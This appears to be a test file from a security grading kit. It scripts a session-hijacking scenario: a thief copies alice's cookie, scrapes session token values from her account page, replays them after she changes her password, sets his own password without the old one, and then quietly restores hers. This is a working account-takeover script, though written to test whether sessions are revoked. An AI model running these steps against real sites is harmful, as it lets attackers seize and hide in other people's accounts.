import { attack, type AttackScene } from "../kit/grader/attack.ts";
import type { Browser } from "../kit/browser/browser.ts";

/** alice's passwords. She has the other one if the attack ran before. */
const PASSWORDS = ["wonderland", "looking-glass"] as const;

/** Logs alice in. Returns the password that she has, and the one that she will change to. */
async function logIn(victim: Browser): Promise<[now: string, next: string]> {
  const [first, second] = PASSWORDS;
  const { response } = await victim.login("alice", first);
  if (response.status < 400) return [first, second];
  await victim.login("alice", second);
  return [second, first];
}

// #region ways
/** The thief opens a page with a Cookie header that is not his. */
const open = async ({ thief }: AttackScene, path: string, cookie: string) =>
  (await thief.get(path, { headers: { cookie } })).response.body;

/** Cookies with the values that the buttons of an account page send. */
const idsOn = (page: string): string[] =>
  [...page.matchAll(/name="device" value="([^"]+)"/g)].map(([, value = ""]) => `session_token=${value}`);

/** The thief's own password for alice's account. */
const HIS = "jabberwocky";

async function takeOver({ thief, say }: AttackScene, cookie: string, hers: string): Promise<string> {
  say("He sets a password of his own. Does the site ask for the old password?");
  await thief.post("/password", { password: HIS }, { headers: { cookie } });
  if ((await thief.login("alice", HIS)).response.status >= 400) return "";
  const page = (await thief.get("/dashboard")).response.body;
  say("The account now belongs to him. Then he sets her own password again, so that she notices nothing.");
  await thief.post("/password", { current: HIS, password: hers });
  return page;
}
// #endregion

export default attack(
  "staying in after the victim changed her password",
  "When a thief uses an account, its owner changes the password. If this does not log the thief out, the owner can do nothing more.",
  async (scene) => {
    const { victim, say } = scene;
    say("alice logs in, and the thief copies her cookie.");
    const [now, next] = await logIn(victim);
    const copied = victim.cookieHeader();
    say("He opens her account page, and writes down what its buttons send.");
    const ids = idsOn(await open(scene, "/account", copied));
    say("alice notices that something is wrong. She changes her password.");
    await victim.post("/password", { current: now, password: next });
    say("The thief tries his copy once more, and then the values that he wrote down.");
    const read: string[] = [];
    for (const cookie of [copied, ...ids]) read.push(await open(scene, "/dashboard", cookie));
    const page = await takeOver(scene, copied, next);
    return [...read, page].join("\n");
  },
);
